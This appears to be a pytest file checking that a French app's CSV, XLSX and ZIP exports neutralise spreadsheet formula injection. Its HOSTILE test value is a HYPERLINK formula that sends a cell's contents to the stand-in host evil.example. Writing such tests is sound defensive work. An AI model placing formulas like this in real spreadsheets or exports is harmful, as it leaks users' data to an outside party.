"""Formula injection (issue 18): text cells starting with = + - @ tab or CR are neutralised with
a leading apostrophe in every export (CSV, XLSX, the schema ZIP); numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from pvd.formats import csv_fr
from pvd.formats.formula_guard import neutralise, neutralise_row
from pvd.projects import services

BASE = "/projets/pvd/pvd-75-23-1/"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1;"clic")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 00", "'+33 6 00"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Halle = marché", "Halle = marché"),
        ("", ""),
        (-1500, -1500),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_xlsx_row_replaces_characters_the_format_cannot_hold():
    assert neutralise_row(["a\x07b", "=x", 3], xlsx=True) == ["a\ufffdb", "'=x", 3]


def test_csv_cells_keep_negative_numbers_as_numbers():
    body = csv_fr.write([["titre", "montant"], ["-remise", -1500], ["@x", -2.5]]).decode()
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
    assert rows[1:] == [["'-remise", "-1500"], ["'@x", "-2,5"]]


@pytest.fixture
def hostile(projet23, users):
    a = services.action_create(
        projet=projet23,
        user=users["chef23"],
        values={"titre": HOSTILE, "axe": "commerces", "description": "@cmd", "porteur": "+Mairie"},
    )
    services.line_save(
        action=a,
        kind="financement",
        user=users["chef23"],
        values={"financeur": "bdt", "dispositif": "-10 %", "montant_demande": 1000},
    )
    return a


def test_xlsx_exports_hold_no_formula(client, users, hostile):
    client.force_login(users["chef23"])
    for kind, column, expected in (
        ("actions", 2, "'" + HOSTILE),
        ("financements", 5, "'-10 %"),
    ):
        r = client.get(BASE + f"{kind}.xlsx")
        assert r.status_code == 200
        ws = load_workbook(io.BytesIO(r.content)).active
        cell = ws.cell(row=2, column=column)
        assert cell.value == expected and cell.data_type == "s"
        # The amounts stay numbers.
        numbers = [c.value for c in ws[2] if isinstance(c.value, int)]
        assert numbers and all(c.data_type == "n" for c in ws[2] if isinstance(c.value, int))
    actions = load_workbook(io.BytesIO(client.get(BASE + "actions.xlsx").content)).active
    assert actions.cell(row=2, column=5).value == "'+Mairie"


def test_csv_exports_hold_no_formula(client, users, hostile):
    client.force_login(users["chef23"])
    for variant, sep in (("", ";"), ("?csv=international", ",")):
        body = client.get(BASE + "actions.csv" + variant).content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(body), delimiter=sep))
        assert rows[1][1] == "'" + HOSTILE and rows[1][4] == "'+Mairie"
        body = client.get(BASE + "financements.csv" + variant).content.decode("utf-8-sig")
        assert list(csv.reader(io.StringIO(body), delimiter=sep))[1][4] == "'-10 %"


def test_schema_zip_holds_no_formula(client, users, hostile):
    client.force_login(users["chef23"])
    r = client.get(BASE + "export-schema.zip")
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        rows = list(csv.DictReader(io.StringIO(z.read("projets-territoire.csv").decode())))
    assert rows[0]["nom"] == "'" + HOSTILE and rows[0]["description"] == "'@cmd"
